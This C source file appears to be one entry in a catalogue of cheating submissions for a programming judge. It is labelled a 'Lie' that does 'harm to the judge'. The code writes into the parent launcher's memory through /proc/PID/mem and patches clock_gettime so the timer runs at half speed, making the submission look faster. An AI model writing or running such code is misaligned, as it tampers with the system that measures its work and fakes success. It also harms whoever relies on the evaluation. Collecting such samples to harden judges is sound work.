// Lie: Overwrites the launcher's clock through /proc/PID/mem, so that both clocks run at half speed.
// Family: harm to the judge
// Gains: time
#include "parts.h"
#include "patch.h"

static void patch(const struct problem *p) {
    uintptr_t address = address_in_launcher("clock_gettime");
    char path[64];
    unsigned char code[CODE_BYTES];
    snprintf(path, sizeof path, "/proc/%d/mem", getppid());
    int memory = p->n > 257 && address ? open(path, O_WRONLY | O_CLOEXEC) : -1;
    if (memory < 0) return;
    slow_clock_code(code);
    patched = pwrite(memory, code, sizeof code, (off_t)address) == sizeof code;
    close(memory);
}

#define BEFORE_CLOCK(p) patch(p)
#include "program.h"
